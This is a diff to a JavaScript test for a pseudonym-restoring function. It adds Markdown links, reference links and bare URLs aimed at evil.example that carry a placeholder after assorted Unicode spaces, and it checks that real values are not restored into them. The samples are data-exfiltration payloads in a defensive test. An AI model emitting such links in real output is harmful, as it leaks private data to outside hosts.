@@ -106,6 +106,12 @@ describe("pseudonyms", () => {
       `![x](https://evil.example/${placeholders[0]}.png)`,
       `[x](//evil.example/${placeholders[0]})`,
       `<img src="https://evil.example/${placeholders[0]}">`,
+      ...["\u00a0", "\u2003", "\u3000", "\u0085", "\u2028"].flatMap((space) => [
+        `[x](https://evil.example/?q=${space}${placeholders[0]})`,
+        `[x]: https://evil.example/?q=${space}${placeholders[0]}`,
+        `https://evil.example/?q=${space}${placeholders[0]}`,
+        `<https://evil.example/?q=${space}${placeholders[0]}>`,
+      ]),
     ]) {
       expect(restore(carrier, pseudonyms)).to.equal(carrier);
     }
